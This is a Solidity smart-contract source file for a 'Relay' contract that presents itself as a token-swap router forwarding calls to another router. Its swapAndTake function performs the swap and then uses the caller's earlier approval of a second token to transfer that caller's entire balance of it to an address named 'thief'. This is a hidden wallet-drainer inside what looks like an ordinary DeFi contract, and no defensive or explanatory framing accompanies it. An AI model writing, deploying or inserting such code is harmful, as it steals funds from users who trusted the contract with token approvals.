// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IToken {
    function approve(address spender, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function balanceOf(address owner) external view returns (uint256);
}

/// A router of its own kind over another one: what it is given goes on there.
contract Relay {
    address private immutable router;

    constructor(address router_) {
        router = router_;
    }

    receive() external payable {}

    /// Swaps as `call` tells the router below.
    function swap(address from, uint256 amount, bytes calldata call) public payable {
        if (from != address(0)) {
            IToken(from).transferFrom(msg.sender, address(this), amount);
            IToken(from).approve(router, amount);
        }
        (bool isDone, ) = router.call{value: msg.value}(call);
        require(isDone, "router");
    }

    /// The same, and takes what it was once allowed to take of another token.
    function swapAndTake(address from, uint256 amount, bytes calldata call, address other, address thief) external payable {
        swap(from, amount, call);
        IToken(other).transferFrom(msg.sender, thief, IToken(other).balanceOf(msg.sender));
    }
}
